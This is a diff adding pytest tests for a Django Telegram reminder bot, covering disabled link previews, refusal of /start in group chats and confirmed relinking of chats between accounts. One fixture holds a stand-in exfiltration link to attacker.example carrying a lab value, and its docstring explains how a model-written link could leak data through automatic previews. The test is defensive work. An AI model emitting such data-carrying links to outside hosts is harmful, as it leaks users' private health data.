@@ -203,3 +203,116 @@ def test_check_token_exits_zero_only_with_a_token():
     without = _manage("--check-token", env_extra={"TELEGRAM_BOT_TOKEN": ""})
     assert with_token.returncode == 0, with_token.stderr
     assert without.returncode == 1
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_every_bot_message_goes_out_without_link_preview(make_user, user, telegram_server):
+    """With previews on, Telegram's servers fetch the first link of a message by themselves:
+    a link the model wrote (`…?d=<data>`) would carry data out without a click."""
+    from asgiref.sync import sync_to_async
+
+    owner = await sync_to_async(make_user)("tg@example.com", telegram_chat_id=CHAT)
+    pill = await Notification.objects.acreate(
+        user=owner, title="Take bisoprolol", channel="telegram",
+        body="See https://attacker.example/x?d=ferritin-12")
+    await sync_to_async(delivery.deliver_due)()  # the worker's path
+    [reminder] = telegram_server.shown(CHAT)
+    telegram_server.press_button(CHAT, {k: v for k, v in reminder.items() if k != "sent"},
+                                 f"done:{pill.pk}")
+    code = await sync_to_async(reminders.new_link_code)(user)
+    telegram_server.send_text(CHAT + 1, f"/start {code.code}")  # a reply of the bot
+
+    async def answered():
+        return bool(telegram_server.calls_to("editMessageText")) and len(
+            telegram_server.calls_to("sendMessage")) >= 2
+
+    await _run_bot(telegram_server, answered)
+    calls = telegram_server.calls_to("sendMessage") + telegram_server.calls_to("editMessageText")
+    assert len(calls) == 3
+    assert all(call["link_preview_options"] == {"is_disabled": True} for call in calls)
+    assert telegram_server.with_previews() == []
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_start_in_a_group_is_refused_and_links_nothing(user, telegram_server):
+    from asgiref.sync import sync_to_async
+
+    code = await sync_to_async(reminders.new_link_code)(user)
+    group = -100200300
+    telegram_server.send_text(group, f"/start {code.code}", chat_type="supergroup")
+
+    async def replied():
+        return bool(telegram_server.calls_to("sendMessage"))
+
+    await _run_bot(telegram_server, replied)
+    [reply] = telegram_server.calls_to("sendMessage")
+    assert int(reply["chat_id"]) == group
+    assert "only in a private chat" in reply["text"]
+    await user.arefresh_from_db()
+    assert user.telegram_chat_id is None
+    assert await sync_to_async(reminders.link_code_owner)(code.code) == user, "code not spent"
+
+
+async def _relink_question(make_user, telegram_server):
+    """Alice's chat; Bob's link code sent in it: the bot asks before moving it."""
+    from asgiref.sync import sync_to_async
+
+    alice = await sync_to_async(make_user)("alice@example.com", telegram_chat_id=CHAT)
+    bob = await sync_to_async(make_user)("bob@example.com")
+    code = await sync_to_async(reminders.new_link_code)(bob)
+    telegram_server.send_text(CHAT, f"/start {code.code}")
+
+    async def asked():
+        return bool(telegram_server.calls_to("sendMessage"))
+
+    await _run_bot(telegram_server, asked)
+    [question] = telegram_server.shown(CHAT)
+    assert "linked to alice@example.com" in question["text"]
+    assert "bob@example.com" in question["text"]
+    buttons = question["reply_markup"]["inline_keyboard"][0]
+    assert [b["text"] for b in buttons] == ["Confirm", "Cancel"]
+    await alice.arefresh_from_db()
+    assert alice.telegram_chat_id == CHAT, "nothing moves before the answer"
+    return alice, bob, question
+
+
+async def _press(telegram_server, question, label):
+    button = next(b for b in question["reply_markup"]["inline_keyboard"][0]
+                  if b["text"] == label)
+    telegram_server.press_button(CHAT, {k: v for k, v in question.items() if k != "sent"},
+                                 button["callback_data"])
+
+    async def answered():
+        return bool(telegram_server.calls_to("editMessageText"))
+
+    await _run_bot(telegram_server, answered)
+    return telegram_server.calls_to("editMessageText")[0]["text"]
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_a_linked_chat_moves_only_after_confirm_and_the_previous_account_is_told(
+        make_user, telegram_server):
+    alice, bob, question = await _relink_question(make_user, telegram_server)
+    answer = await _press(telegram_server, question, "Confirm")
+    assert "Linked to bob@example.com" in answer
+    await alice.arefresh_from_db()
+    await bob.arefresh_from_db()
+    assert (alice.telegram_chat_id, bob.telegram_chat_id) == (None, CHAT)
+    told = [n async for n in Notification.objects.filter(user=alice)]
+    assert [n.title for n in told] == ["Telegram is no longer linked"]
+    assert told[0].channel == "in_app"
+    assert not await Notification.objects.filter(user=bob).aexists()
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_cancel_keeps_the_chat_and_spends_the_code(make_user, telegram_server):
+    from asgiref.sync import sync_to_async
+
+    alice, _bob, question = await _relink_question(make_user, telegram_server)
+    answer = await _press(telegram_server, question, "Cancel")
+    assert "stays linked to alice@example.com" in answer
+    await alice.arefresh_from_db()
+    assert alice.telegram_chat_id == CHAT
+    assert not await Notification.objects.filter(user=alice).aexists()
+    code = question["reply_markup"]["inline_keyboard"][0][0]["callback_data"].split(":", 1)[1]
+    assert await sync_to_async(reminders.link_code_owner)(code) is None
